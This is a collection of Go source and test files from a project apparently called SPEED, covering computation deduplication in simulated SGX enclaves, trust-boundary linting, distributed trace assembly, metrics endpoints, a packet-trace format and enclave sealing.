	id, err := rt.Resolve(dedup.FuncDesc{Library: "smoke", Version: "1.0", Signature: "smoke(x)"})
	if err != nil {
		return nil, err
	}
	compute := func(in []byte) ([]byte, error) {
		out := make([]byte, len(in))
		for i, b := range in {
			out[i] = b ^ 0xA5
		}
		return out, nil
	}
	for i := 0; i < cfg.Calls; i++ {
		input := []byte(fmt.Sprintf("smoke-input-%d", i%4))
		if _, _, err := rt.Execute(id, input, compute); err != nil {
			return nil, fmt.Errorf("smoke: call %d: %w", i, err)
		}
	}

	res := &SmokeResult{}
	stats := rt.Stats()
	res.Reused, res.Computed, res.Coalesced = stats.Reused, stats.Computed, stats.Coalesced
	seen := make(map[string]bool)
	events := reg.Trace().Events() // newest first
	for i := len(events) - 1; i >= 0; i-- {
		if id := events[i].TraceID; id != "" && !seen[id] {
			seen[id] = true
			res.TraceIDs = append(res.TraceIDs, id)
		}
	}
	return res, nil
}
