package mapreduce

import (
	"bytes"
	"fmt"
	"testing"

	"speed/internal/chunk"
)

func bigCounts(n int) map[string]int {
	counts := make(map[string]int, n)
	for i := 0; i < n; i++ {
		counts[fmt.Sprintf("word-%06d", i)] = i * 3
	}
	return counts
}

// TestEncodeCountsToMatchesEncodeCounts: the streaming encoder produces
// byte-for-byte the materialized form (the dedup tag depends on it).
func TestEncodeCountsToMatchesEncodeCounts(t *testing.T) {
	counts := bigCounts(500)
	var buf bytes.Buffer
	if err := EncodeCountsTo(&buf, counts); err != nil {
		t.Fatalf("EncodeCountsTo: %v", err)
	}
	if !bytes.Equal(buf.Bytes(), EncodeCounts(counts)) {
		t.Fatal("streamed encoding differs from EncodeCounts")
	}
	back, err := DecodeCounts(buf.Bytes())
	if err != nil {
		t.Fatalf("DecodeCounts: %v", err)
	}
	if len(back) != len(counts) || back["word-000100"] != 300 {
		t.Fatal("round trip lost entries")
	}
}

// TestChunkCountsDeterministic: incremental chunking of the encoding
// reproduces Split over the materialized bytes — identical chunk
// boundaries, so identical chunk tags across runtimes.
func TestChunkCountsDeterministic(t *testing.T) {
	ck, err := chunk.NewChunker(chunk.Config{})
	if err != nil {
		t.Fatalf("NewChunker: %v", err)
	}
	counts := bigCounts(5000)
	var streamed [][]byte
	if err := ChunkCounts(ck, counts, func(c []byte) error {
		streamed = append(streamed, append([]byte(nil), c...))
		return nil
	}); err != nil {
		t.Fatalf("ChunkCounts: %v", err)
	}
	split := ck.Split(EncodeCounts(counts))
	if len(streamed) != len(split) {
		t.Fatalf("streamed %d chunks, Split produced %d", len(streamed), len(split))
	}
	if len(streamed) < 2 {
		t.Fatalf("encoding cut into %d chunks; want several", len(streamed))
	}
	for i := range split {
		if !bytes.Equal(streamed[i], split[i]) {
			t.Fatalf("chunk %d differs between streamed and split paths", i)
		}
	}
}
