package lint

import (
	"go/ast"
	"strconv"
	"strings"
)

// EnclaveBoundaryAnalyzer machine-checks the trust boundary the SPEED
// deployment model draws around the MLE crypto core and the enclave
// simulator:
//
//   - Rule A (trusted imports): a trusted package — one listed in
//     Config.TrustedPackages or carrying a //speedlint:trusted
//     directive — must not import the untrusted I/O layer: net, os,
//     syscall, os/exec, or the wire package. The TCB computes; it does
//     not talk to the outside world directly, so a leak requires code
//     outside the boundary to cooperate.
//   - Rule B (ECALL surface): the attestation primitives
//     (enclave.VerifyQuote, UnmarshalQuote, UnmarshalReport, and
//     friends) may be called only from the wire handshake (or the
//     enclave package itself), and the sealing primitives
//     (Enclave.Seal/Unseal) only from the store layer (package store
//     and its storage engines, e.g. logengine) — the places the design
//     documents as the boundary's legitimate crossings.
//
// The old wire-send rule — no secret-named buffer as a raw send
// argument — is gone: the sealflow dataflow analyzer now proves the
// stronger property (no unsealed source-to-sink path at all) instead
// of pattern-matching names at one call shape.
//
// Rules match package and type NAMES (not full import paths) so the
// same checks run against the production tree and the test fixtures.
var EnclaveBoundaryAnalyzer = &Analyzer{
	Name: "enclaveboundary",
	Doc:  "trusted packages must not touch untrusted I/O; enclave primitives only cross at documented points",
	Run:  runEnclaveBoundary,
}

// attestationFuncs is the enclave package's attestation surface,
// callable only from the wire handshake.
var attestationFuncs = map[string]bool{
	"VerifyQuote": true, "VerifyReport": true,
	"UnmarshalQuote": true, "UnmarshalReport": true,
	"Quote": true, "Report": true,
}

// sendMethods are the wire-send entry points treated as conn sinks by
// the sealflow analyzer.
var sendMethods = map[string]bool{
	"Send": true, "SendMessage": true, "SendBatch": true,
	"Write": true, "WriteFrame": true,
}

func runEnclaveBoundary(pass *Pass) {
	if pass.Config.Trusted(pass.Pkg) {
		checkTrustedImports(pass)
	}
	checkECallSurface(pass)
}

// checkTrustedImports applies rule A to a trusted package.
func checkTrustedImports(pass *Pass) {
	for _, f := range pass.Pkg.Files {
		for _, imp := range f.Imports {
			path, err := strconv.Unquote(imp.Path.Value)
			if err != nil {
				continue
			}
			if why := bannedInTrusted(path); why != "" {
				pass.Reportf(imp.Pos(), "trusted package %s imports %s; the enclave TCB must not reach the %s", pass.Pkg.Path, path, why)
			}
		}
	}
}

// bannedInTrusted classifies an import path forbidden inside the TCB,
// returning a short reason or "".
func bannedInTrusted(path string) string {
	switch {
	case path == "net" || strings.HasPrefix(path, "net/"):
		return "network"
	case path == "os" || strings.HasPrefix(path, "os/"):
		return "host OS"
	case path == "syscall" || strings.HasPrefix(path, "syscall/"):
		return "host OS"
	case path == "wire" || strings.HasSuffix(path, "/wire"):
		return "untrusted wire layer"
	}
	return ""
}

// checkECallSurface applies rule B to packages other than the
// documented callers.
func checkECallSurface(pass *Pass) {
	pkg := pass.Pkg
	caller := pkg.Types.Name()
	forEachFunc(pkg, func(_ *ast.File, fd *ast.FuncDecl) {
		ast.Inspect(fd.Body, func(n ast.Node) bool {
			call, ok := n.(*ast.CallExpr)
			if !ok {
				return true
			}
			sel, ok := ast.Unparen(call.Fun).(*ast.SelectorExpr)
			if !ok {
				return true
			}
			name := sel.Sel.Name
			// Attestation package functions: wire-only.
			if attestationFuncs[name] && isEnclaveQualifier(pkg, sel.X) {
				if caller != "wire" && caller != "enclave" {
					pass.Reportf(call.Pos(), "attestation primitive enclave.%s called from package %s; attestation is verified only inside the wire handshake", name, caller)
				}
				return true
			}
			// Sealing methods on an Enclave value: the store layer only
			// (the store itself and its storage engines).
			if (name == "Seal" || name == "Unseal") && typeIs(pkg, sel.X, "enclave", "Enclave") {
				if caller != "store" && caller != "logengine" && caller != "enclave" {
					pass.Reportf(call.Pos(), "sealing primitive Enclave.%s called from package %s; sealed storage is owned by the store layer", name, caller)
				}
			}
			return true
		})
	})
}

// isEnclaveQualifier reports whether e is a package qualifier naming
// the enclave package (resolved through type info, with a name
// fallback).
func isEnclaveQualifier(pkg *Package, e ast.Expr) bool {
	if path := pkgPathOf(pkg, e); path != "" {
		return path == "enclave" || strings.HasSuffix(path, "/enclave")
	}
	id, ok := ast.Unparen(e).(*ast.Ident)
	return ok && id.Name == "enclave"
}
