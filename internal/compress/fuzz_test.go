package compress

import (
	"bytes"
	"testing"
)

// Fuzz targets run their seed corpus under plain `go test` and can be
// extended with `go test -fuzz=FuzzX ./internal/compress`.

// FuzzDecompress: arbitrary input must never panic, and valid
// compressor output must round-trip.
func FuzzDecompress(f *testing.F) {
	f.Add([]byte{})
	f.Add([]byte("not a container"))
	f.Add(Compress(nil))
	f.Add(Compress([]byte("hello hello hello hello")))
	f.Add(Compress(bytes.Repeat([]byte{0xAB}, 5000)))
	f.Fuzz(func(t *testing.T, data []byte) {
		// Must not panic; errors are fine.
		out, err := Decompress(data)
		if err == nil && len(out) > 1<<30 {
			t.Fatal("implausibly large decompression")
		}
	})
}

// FuzzRoundTrip: every input compresses and decompresses to itself, at
// both extreme levels.
func FuzzRoundTrip(f *testing.F) {
	f.Add([]byte{})
	f.Add([]byte("abcabcabcabc"))
	f.Add(bytes.Repeat([]byte("pattern "), 100))
	f.Add([]byte{0, 255, 0, 255, 1, 2, 3})
	f.Fuzz(func(t *testing.T, src []byte) {
		for _, level := range []int{1, 9} {
			got, err := Decompress(CompressLevel(src, level))
			if err != nil {
				t.Fatalf("level %d: %v", level, err)
			}
			if !bytes.Equal(got, src) {
				t.Fatalf("level %d: round trip mismatch", level)
			}
		}
	})
}
