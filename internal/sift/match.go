package sift

import "sort"

// Descriptor matching with Lowe's ratio test, completing the classic
// SIFT pipeline (detection → description → matching). Matching is what
// applications like image stitching and object recognition — the uses
// the paper's Case 1 motivates — do with the extracted keypoints.

// MatchPair links keypoint A (index into the first set) with keypoint
// B (index into the second set).
type MatchPair struct {
	// A and B index the input keypoint slices.
	A, B int
	// Dist is the squared L2 distance between the descriptors.
	Dist int
}

// DefaultMatchRatio is Lowe's recommended nearest/second-nearest
// distance ratio threshold.
const DefaultMatchRatio = 0.8

// MatchDescriptors finds, for each keypoint in a, its nearest neighbour
// in b by descriptor distance, keeping matches that pass the ratio
// test: nearest < ratio * secondNearest (squared distances compared as
// nearest < ratio^2 * secondNearest). Results are ordered by ascending
// distance. ratio <= 0 uses DefaultMatchRatio.
func MatchDescriptors(a, b []Keypoint, ratio float64) []MatchPair {
	if ratio <= 0 {
		ratio = DefaultMatchRatio
	}
	r2 := ratio * ratio
	var out []MatchPair
	for i := range a {
		best, second := -1, -1
		bestD, secondD := int(^uint(0)>>1), int(^uint(0)>>1)
		for j := range b {
			d := descriptorDist2(&a[i].Descriptor, &b[j].Descriptor)
			if d < bestD {
				second, secondD = best, bestD
				best, bestD = j, d
			} else if d < secondD {
				second, secondD = j, d
			}
		}
		if best < 0 {
			continue
		}
		// With a single candidate the ratio test is vacuous; accept.
		if second >= 0 && float64(bestD) >= r2*float64(secondD) {
			continue
		}
		out = append(out, MatchPair{A: i, B: best, Dist: bestD})
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Dist != out[j].Dist {
			return out[i].Dist < out[j].Dist
		}
		return out[i].A < out[j].A
	})
	return out
}

// descriptorDist2 is the squared L2 distance between two descriptors.
func descriptorDist2(a, b *[128]uint8) int {
	sum := 0
	for i := 0; i < 128; i++ {
		d := int(a[i]) - int(b[i])
		sum += d * d
	}
	return sum
}
