package fleet

import (
	"sort"
	"time"

	"speed/internal/telemetry"
)

// Span is one node's trace event placed in an assembled cross-node
// tree.
type Span struct {
	Event    telemetry.TraceEvent
	Children []*Span
}

// Trace is one distributed trace assembled from the rings of several
// nodes: a root span (recorded by the runtime that made the sampling
// decision) with the router legs and store spans hanging beneath it.
// Spans whose parent was not retained anywhere — evicted from a ring,
// or a node that could not be polled — are kept under Orphans so the
// console still shows them.
type Trace struct {
	ID      string
	Root    *Span
	Orphans []*Span
	Spans   int
}

// Total returns the trace's end-to-end duration: the root span's when
// there is one, otherwise the longest span retained.
func (t *Trace) Total() time.Duration {
	if t.Root != nil {
		return time.Duration(t.Root.Event.TotalNS)
	}
	var max int64
	for _, s := range t.Orphans {
		if s.Event.TotalNS > max {
			max = s.Event.TotalNS
		}
	}
	return time.Duration(max)
}

// Complete reports whether the trace assembled into a single tree: a
// root was found and no span is orphaned.
func (t *Trace) Complete() bool { return t.Root != nil && len(t.Orphans) == 0 }

// Walk visits the trace depth-first, roots first then orphans, calling
// fn with each span's depth.
func (t *Trace) Walk(fn func(depth int, s *Span)) {
	var rec func(depth int, s *Span)
	rec = func(depth int, s *Span) {
		fn(depth, s)
		for _, c := range s.Children {
			rec(depth+1, c)
		}
	}
	if t.Root != nil {
		rec(0, t.Root)
	}
	for _, s := range t.Orphans {
		rec(0, s)
	}
}

// Assemble merges the trace events of every polled node into
// parent-linked distributed traces, slowest first. Events without a
// trace ID (locally sampled, never propagated) are ignored; duplicate
// observations of one span — the same node polled twice — collapse.
func Assemble(statuses []NodeStatus) []*Trace {
	type spanKey struct{ node, span, name string }
	byTrace := make(map[string][]*Span)
	seen := make(map[spanKey]bool)
	for _, st := range statuses {
		for _, ev := range st.Events {
			if ev.TraceID == "" || ev.SpanID == "" {
				continue
			}
			k := spanKey{ev.Node, ev.SpanID, ev.Name}
			if seen[k] {
				continue
			}
			seen[k] = true
			byTrace[ev.TraceID] = append(byTrace[ev.TraceID], &Span{Event: ev})
		}
	}

	traces := make([]*Trace, 0, len(byTrace))
	for id, spans := range byTrace {
		traces = append(traces, link(id, spans))
	}
	sort.Slice(traces, func(i, j int) bool {
		if traces[i].Total() != traces[j].Total() {
			return traces[i].Total() > traces[j].Total()
		}
		return traces[i].ID < traces[j].ID
	})
	return traces
}

// link builds one trace's tree from its flat span list.
func link(id string, spans []*Span) *Trace {
	t := &Trace{ID: id, Spans: len(spans)}
	bySpanID := make(map[string]*Span, len(spans))
	for _, s := range spans {
		// First writer wins; duplicates were already collapsed, so a
		// collision means two nodes produced the same span ID — keep
		// both in the tree via the orphan path below.
		if _, ok := bySpanID[s.Event.SpanID]; !ok {
			bySpanID[s.Event.SpanID] = s
		}
	}
	for _, s := range spans {
		switch {
		case s.Event.ParentID == "":
			if t.Root == nil {
				t.Root = s
			} else {
				t.Orphans = append(t.Orphans, s)
			}
		default:
			parent, ok := bySpanID[s.Event.ParentID]
			if ok && parent != s {
				parent.Children = append(parent.Children, s)
			} else {
				t.Orphans = append(t.Orphans, s)
			}
		}
	}
	sortChildren(t.Root)
	for _, s := range t.Orphans {
		sortChildren(s)
	}
	sort.Slice(t.Orphans, func(i, j int) bool {
		return t.Orphans[i].Event.Time.Before(t.Orphans[j].Event.Time)
	})
	return t
}

func sortChildren(s *Span) {
	if s == nil {
		return
	}
	sort.Slice(s.Children, func(i, j int) bool {
		return s.Children[i].Event.Time.Before(s.Children[j].Event.Time)
	})
	for _, c := range s.Children {
		sortChildren(c)
	}
}
