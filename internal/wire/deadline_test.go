package wire

import (
	"bytes"
	"errors"
	"io"
	"os"
	"testing"
	"time"

	"speed/internal/enclave"
)

// deadlineStub records deadline calls and can be made to fail either
// side, for exercising SetDeadline's partial-failure handling without a
// real transport.
type deadlineStub struct {
	readErr, writeErr error
	readCalls         []time.Time
	writeCalls        []time.Time
}

func (d *deadlineStub) Read(p []byte) (int, error)  { return 0, io.EOF }
func (d *deadlineStub) Write(p []byte) (int, error) { return len(p), nil }
func (d *deadlineStub) Close() error                { return nil }

func (d *deadlineStub) SetReadDeadline(t time.Time) error {
	d.readCalls = append(d.readCalls, t)
	return d.readErr
}

func (d *deadlineStub) SetWriteDeadline(t time.Time) error {
	d.writeCalls = append(d.writeCalls, t)
	return d.writeErr
}

// TestSetDeadlineUnwindsOnPartialFailure: when the read deadline is
// accepted but the write deadline fails, SetDeadline must clear the
// read deadline again — a false return must never leave an asymmetric
// deadline armed.
func TestSetDeadlineUnwindsOnPartialFailure(t *testing.T) {
	stub := &deadlineStub{writeErr: errors.New("write deadline unsupported")}
	ch := &Channel{conn: stub}
	deadline := time.Now().Add(time.Second)

	if ch.SetDeadline(deadline) {
		t.Fatal("SetDeadline reported success despite write-side failure")
	}
	// Read side: armed with the deadline, then unwound with a zero time.
	if len(stub.readCalls) != 2 {
		t.Fatalf("read deadline calls = %v, want [deadline, zero]", stub.readCalls)
	}
	if !stub.readCalls[0].Equal(deadline) {
		t.Errorf("first read deadline = %v, want %v", stub.readCalls[0], deadline)
	}
	if !stub.readCalls[1].IsZero() {
		t.Errorf("read deadline not unwound: second call = %v, want zero time", stub.readCalls[1])
	}
	if len(stub.writeCalls) != 1 || !stub.writeCalls[0].Equal(deadline) {
		t.Errorf("write deadline calls = %v, want one call with %v", stub.writeCalls, deadline)
	}
}

// TestSetDeadlineReadFailureStopsEarly: a read-side failure returns
// false without touching the write deadline (nothing to unwind).
func TestSetDeadlineReadFailureStopsEarly(t *testing.T) {
	stub := &deadlineStub{readErr: errors.New("read deadline unsupported")}
	ch := &Channel{conn: stub}

	if ch.SetDeadline(time.Now().Add(time.Second)) {
		t.Fatal("SetDeadline reported success despite read-side failure")
	}
	if len(stub.readCalls) != 1 {
		t.Fatalf("read deadline calls = %d, want 1", len(stub.readCalls))
	}
	if len(stub.writeCalls) != 0 {
		t.Errorf("write deadline set %d times after read failure, want 0", len(stub.writeCalls))
	}
}

// TestSetDeadlineSuccessArmsBothSides: the success path installs the
// same deadline on both directions exactly once.
func TestSetDeadlineSuccessArmsBothSides(t *testing.T) {
	stub := &deadlineStub{}
	ch := &Channel{conn: stub}
	deadline := time.Now().Add(time.Second)

	if !ch.SetDeadline(deadline) {
		t.Fatal("SetDeadline failed on a healthy stub")
	}
	if len(stub.readCalls) != 1 || !stub.readCalls[0].Equal(deadline) {
		t.Errorf("read deadline calls = %v, want one call with %v", stub.readCalls, deadline)
	}
	if len(stub.writeCalls) != 1 || !stub.writeCalls[0].Equal(deadline) {
		t.Errorf("write deadline calls = %v, want one call with %v", stub.writeCalls, deadline)
	}
}

// TestChannelSetDeadline: an expired deadline must surface as a
// timeout from Recv instead of blocking forever, and clearing it must
// restore normal operation on a fresh channel.
func TestChannelSetDeadline(t *testing.T) {
	p := enclave.NewPlatform(enclave.Config{})
	app, err := p.Create("app", []byte("app code"))
	if err != nil {
		t.Fatalf("create app: %v", err)
	}
	st, err := p.Create("store", []byte("store code"))
	if err != nil {
		t.Fatalf("create store: %v", err)
	}
	client, server := handshakePair(t, p, app, st, nil)
	defer client.Close()
	defer server.Close()

	// net.Pipe supports deadlines, so the channel must report support.
	if !client.SetDeadline(time.Now().Add(30 * time.Millisecond)) {
		t.Fatal("SetDeadline over net.Pipe reported unsupported")
	}
	// Nothing is sent: Recv must time out rather than hang.
	start := time.Now()
	_, err = client.Recv()
	if err == nil {
		t.Fatal("Recv with expired deadline returned nil error")
	}
	var ne interface{ Timeout() bool }
	if !errors.As(err, &ne) || !ne.Timeout() {
		if !errors.Is(err, os.ErrDeadlineExceeded) {
			t.Errorf("Recv error = %v, want timeout", err)
		}
	}
	if elapsed := time.Since(start); elapsed > 5*time.Second {
		t.Errorf("Recv blocked %v despite deadline", elapsed)
	}

	// Clearing the deadline restores a usable transport for frames the
	// peer sends afterwards.
	if !client.SetDeadline(time.Time{}) {
		t.Fatal("clearing deadline reported unsupported")
	}
	go func() {
		_ = server.Send([]byte("after deadline"))
	}()
	payload, err := client.Recv()
	if err != nil {
		// A timed-out Recv may have desynchronised the stream
		// mid-frame; all that is required here is a clean error, not a
		// hang. But with no bytes sent before the timeout, the stream
		// position is intact and the frame must arrive.
		t.Fatalf("Recv after clearing deadline: %v", err)
	}
	if !bytes.Equal(payload, []byte("after deadline")) {
		t.Errorf("payload = %q", payload)
	}
}
