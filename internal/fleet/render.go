package fleet

import (
	"fmt"
	"io"
	"strings"
	"time"
)

// RenderStatus writes the per-node fleet table: one row per polled
// member with its hit rate, p99, traffic and failure counters.
func RenderStatus(w io.Writer, sts []NodeStatus) {
	fmt.Fprintf(w, "%-28s %8s %9s %9s %8s %9s %9s %9s\n",
		"NODE", "HIT%", "P99", "GETS", "PUTS", "ENTRIES", "AUTHFAIL", "FAILOVER")
	for _, st := range sts {
		if st.Err != nil {
			fmt.Fprintf(w, "%-28s DOWN (%v)\n", st.Addr, st.Err)
			continue
		}
		fmt.Fprintf(w, "%-28s %7.1f%% %9s %9d %8d %9d %9d %9d\n",
			st.Addr, st.HitRate()*100, fmtDur(st.P99),
			st.Gets, st.Puts, st.Entries, st.AuthFailures, st.Failovers)
	}
}

// RenderTraces writes the top slowest assembled traces as indented
// span trees.
func RenderTraces(w io.Writer, traces []*Trace, top int) {
	if top <= 0 || top > len(traces) {
		top = len(traces)
	}
	if top == 0 {
		fmt.Fprintln(w, "no assembled traces yet (is trace sampling enabled?)")
		return
	}
	fmt.Fprintf(w, "slowest traces (%d of %d assembled):\n", top, len(traces))
	for _, t := range traces[:top] {
		state := "complete"
		if !t.Complete() {
			state = fmt.Sprintf("partial, %d orphan spans", len(t.Orphans))
		}
		fmt.Fprintf(w, "\ntrace %s  total=%s  spans=%d  %s\n",
			t.ID, fmtDur(t.Total()), t.Spans, state)
		t.Walk(func(depth int, s *Span) {
			fmt.Fprintf(w, "  %s%s\n", strings.Repeat("  ", depth), spanLine(s))
		})
	}
}

// spanLine formats one span for the tree view.
func spanLine(s *Span) string {
	ev := s.Event
	var b strings.Builder
	b.WriteString(ev.Name)
	if ev.ID != "" {
		fmt.Fprintf(&b, " %s", ev.ID)
	}
	fmt.Fprintf(&b, "  %s", fmtDur(time.Duration(ev.TotalNS)))
	switch {
	case ev.Err != "":
		fmt.Fprintf(&b, "  err=%s", ev.Err)
	case ev.Outcome != "":
		fmt.Fprintf(&b, "  %s", ev.Outcome)
	}
	if ev.Node != "" {
		fmt.Fprintf(&b, "  @%s", ev.Node)
	}
	return b.String()
}

// fmtDur renders a duration at ~3 significant figures, "-" when zero.
func fmtDur(d time.Duration) string {
	if d == 0 {
		return "-"
	}
	switch {
	case d < time.Microsecond:
		return d.String()
	case d < time.Millisecond:
		return fmt.Sprintf("%.1fµs", float64(d)/float64(time.Microsecond))
	case d < time.Second:
		return fmt.Sprintf("%.2fms", float64(d)/float64(time.Millisecond))
	default:
		return fmt.Sprintf("%.3fs", float64(d)/float64(time.Second))
	}
}
