package telemetry

import (
	"encoding/json"
	"net"
	"net/http"
	"time"
)

// Handler returns an http.Handler exposing the registry:
//
//	/metrics      — Prometheus text exposition format
//	/debug/trace  — recent sampled call traces as a JSON array,
//	                newest first
//	/debug/vars   — the full registry snapshot (counters, gauges,
//	                histogram quantiles) as JSON
func (r *Registry) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/metrics", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
		_ = r.WritePrometheus(w)
	})
	mux.HandleFunc("/debug/trace", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		enc := json.NewEncoder(w)
		enc.SetIndent("", "  ")
		events := r.Trace().Events()
		if events == nil {
			events = []TraceEvent{}
		}
		_ = enc.Encode(events)
	})
	mux.HandleFunc("/debug/vars", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		enc := json.NewEncoder(w)
		enc.SetIndent("", "  ")
		_ = enc.Encode(r.Snapshot())
	})
	return mux
}

// MetricsServer is a running HTTP metrics endpoint.
type MetricsServer struct {
	ln  net.Listener
	srv *http.Server
}

// Addr returns the bound listen address (useful with ":0").
func (m *MetricsServer) Addr() net.Addr { return m.ln.Addr() }

// Close shuts the endpoint down.
func (m *MetricsServer) Close() error { return m.srv.Close() }

// Serve starts an HTTP server on addr exposing the registry via
// Handler. It returns once the listener is bound; serving continues in
// a background goroutine until Close.
func Serve(addr string, r *Registry) (*MetricsServer, error) {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return nil, err
	}
	srv := &http.Server{
		Handler:           r.Handler(),
		ReadHeaderTimeout: 5 * time.Second,
	}
	go func() { _ = srv.Serve(ln) }()
	return &MetricsServer{ln: ln, srv: srv}, nil
}
