// Quickstart: the smallest complete SPEED program. It creates a
// simulated SGX deployment, marks one deterministic function as
// deduplicable (the paper's "2 lines of code"), and shows the
// initial-vs-subsequent computation difference.
package main

import (
	"fmt"
	"os"
	"time"

	"speed"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "quickstart:", err)
		os.Exit(1)
	}
}

// slowFib is a deliberately expensive deterministic function: the
// stand-in for any time-consuming computation worth deduplicating.
func slowFib(n int) (int, error) {
	if n < 2 {
		return n, nil
	}
	a, err := slowFib(n - 1)
	if err != nil {
		return 0, err
	}
	b, err := slowFib(n - 2)
	if err != nil {
		return 0, err
	}
	return a + b, nil
}

func run() error {
	// A deployment = simulated SGX platform + encrypted ResultStore.
	sys, err := speed.NewSystem()
	if err != nil {
		return err
	}
	defer sys.Close()

	// An SGX-enabled application with one trusted library.
	app, err := sys.NewApp("quickstart-app", []byte("quickstart app code v1"))
	if err != nil {
		return err
	}
	defer app.Close()
	app.RegisterLibrary("mathlib", "1.0", []byte("mathlib code v1"))

	// The paper's 2 lines: wrap the function, then call it as usual.
	fib, err := speed.NewDeduplicable(app,
		speed.FuncDesc{Library: "mathlib", Version: "1.0", Signature: "int fib(int)"},
		slowFib)
	if err != nil {
		return err
	}

	for i := 0; i < 3; i++ {
		start := time.Now()
		v, outcome, err := fib.CallOutcome(32)
		if err != nil {
			return err
		}
		fmt.Printf("fib(32) = %d  outcome=%-8v  time=%v\n",
			v, outcome, time.Since(start).Round(10*time.Microsecond))
	}

	fmt.Printf("\napp stats:   %+v\n", app.Stats())
	fmt.Printf("store stats: %+v\n", sys.StoreStats())
	return nil
}
