package workload

import (
	"bufio"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
)

// A minimal packet-trace container (the stand-in for the paper's
// m57-Patents and 4SICS pcap datasets): a magic header, then
// length-prefixed packet records, so synthetic traces can be written
// to disk once and scanned by multiple runs/processes — exactly the
// repeated-input pattern computation deduplication exploits.

var traceMagic = [4]byte{'S', 'P', 'T', '1'}

// ErrBadTrace is returned when parsing an invalid trace.
var ErrBadTrace = errors.New("workload: malformed trace")

// maxTracePacket bounds one packet record (64 KB, like a jumbo-frame
// capture limit).
const maxTracePacket = 64 << 10

// TraceWriter writes packets to a trace stream.
type TraceWriter struct {
	w   *bufio.Writer
	n   int
	hdr bool
}

// NewTraceWriter creates a writer over w.
func NewTraceWriter(w io.Writer) *TraceWriter {
	return &TraceWriter{w: bufio.NewWriter(w)}
}

// WritePacket appends one packet record.
func (t *TraceWriter) WritePacket(payload []byte) error {
	if len(payload) > maxTracePacket {
		return fmt.Errorf("workload: packet of %d bytes exceeds trace limit", len(payload))
	}
	if !t.hdr {
		t.hdr = true
		if _, err := t.w.Write(traceMagic[:]); err != nil {
			return fmt.Errorf("workload: write trace header: %w", err)
		}
	}
	var lenB [4]byte
	binary.BigEndian.PutUint32(lenB[:], uint32(len(payload)))
	if _, err := t.w.Write(lenB[:]); err != nil {
		return fmt.Errorf("workload: write packet length: %w", err)
	}
	if _, err := t.w.Write(payload); err != nil {
		return fmt.Errorf("workload: write packet: %w", err)
	}
	t.n++
	return nil
}

// Count reports how many packets have been written.
func (t *TraceWriter) Count() int { return t.n }

// Flush flushes buffered records to the underlying writer.
func (t *TraceWriter) Flush() error {
	if !t.hdr {
		t.hdr = true
		if _, err := t.w.Write(traceMagic[:]); err != nil {
			return fmt.Errorf("workload: write trace header: %w", err)
		}
	}
	return t.w.Flush()
}

// TraceReader iterates packets from a trace stream.
type TraceReader struct {
	r     *bufio.Reader
	hdrOK bool
}

// NewTraceReader creates a reader over r.
func NewTraceReader(r io.Reader) *TraceReader {
	return &TraceReader{r: bufio.NewReader(r)}
}

// Next returns the next packet, or io.EOF at the end of the trace.
func (t *TraceReader) Next() ([]byte, error) {
	if !t.hdrOK {
		var magic [4]byte
		if _, err := io.ReadFull(t.r, magic[:]); err != nil {
			return nil, fmt.Errorf("%w: missing header", ErrBadTrace)
		}
		if magic != traceMagic {
			return nil, fmt.Errorf("%w: bad magic", ErrBadTrace)
		}
		t.hdrOK = true
	}
	var lenB [4]byte
	if _, err := io.ReadFull(t.r, lenB[:]); err != nil {
		if errors.Is(err, io.EOF) {
			return nil, io.EOF
		}
		return nil, fmt.Errorf("%w: truncated length", ErrBadTrace)
	}
	n := binary.BigEndian.Uint32(lenB[:])
	if n > maxTracePacket {
		return nil, fmt.Errorf("%w: packet of %d bytes exceeds limit", ErrBadTrace, n)
	}
	payload := make([]byte, n)
	if _, err := io.ReadFull(t.r, payload); err != nil {
		return nil, fmt.Errorf("%w: truncated packet", ErrBadTrace)
	}
	return payload, nil
}

// ReadAllPackets drains the trace into memory.
func ReadAllPackets(r io.Reader) ([][]byte, error) {
	tr := NewTraceReader(r)
	var out [][]byte
	for {
		pkt, err := tr.Next()
		if errors.Is(err, io.EOF) {
			return out, nil
		}
		if err != nil {
			return nil, err
		}
		out = append(out, pkt)
	}
}
