package enclave

import (
	"crypto/aes"
	"crypto/cipher"
	"crypto/rand"
	"errors"
	"fmt"
)

// ErrUnsealFailed is returned when sealed data fails authentication,
// e.g. because it was tampered with or sealed by a different enclave
// identity or platform.
var ErrUnsealFailed = errors.New("enclave: unseal authentication failed")

// Seal encrypts data under the enclave's measurement-bound sealing key
// (AES-128-GCM), so that only the same enclave identity on the same
// platform can recover it. This mirrors SGX's sgx_seal_data with
// MRENCLAVE key policy.
func (e *Enclave) Seal(data []byte) ([]byte, error) {
	aead, err := e.sealAEAD()
	if err != nil {
		return nil, err
	}
	nonce := make([]byte, aead.NonceSize())
	if _, err := rand.Read(nonce); err != nil {
		return nil, fmt.Errorf("seal nonce: %w", err)
	}
	return aead.Seal(nonce, nonce, data, e.measurement[:]), nil
}

// Unseal decrypts and authenticates data produced by Seal on the same
// enclave identity and platform.
func (e *Enclave) Unseal(sealed []byte) ([]byte, error) {
	aead, err := e.sealAEAD()
	if err != nil {
		return nil, err
	}
	if len(sealed) < aead.NonceSize() {
		return nil, ErrUnsealFailed
	}
	nonce, ct := sealed[:aead.NonceSize()], sealed[aead.NonceSize():]
	pt, err := aead.Open(nil, nonce, ct, e.measurement[:])
	if err != nil {
		return nil, ErrUnsealFailed
	}
	return pt, nil
}

func (e *Enclave) sealAEAD() (cipher.AEAD, error) {
	block, err := aes.NewCipher(e.sealKey[:16])
	if err != nil {
		return nil, fmt.Errorf("seal cipher: %w", err)
	}
	return cipher.NewGCM(block)
}
