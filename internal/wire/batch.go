package wire

import (
	"encoding/binary"
	"fmt"

	"speed/internal/mle"
)

// Batch messages (protocol v2). A batch GET checks many tags in one
// round trip and a batch PUT uploads many freshly computed results in
// one round trip, amortising the per-message enclave-transition and
// network costs that dominate small requests (the switchless-call
// argument of the related work; see DESIGN.md). Results align with
// requests by position.

// MaxBatchItems bounds one batch message, protecting the peer from a
// single frame that expands into unbounded work. Larger batches must be
// split by the caller.
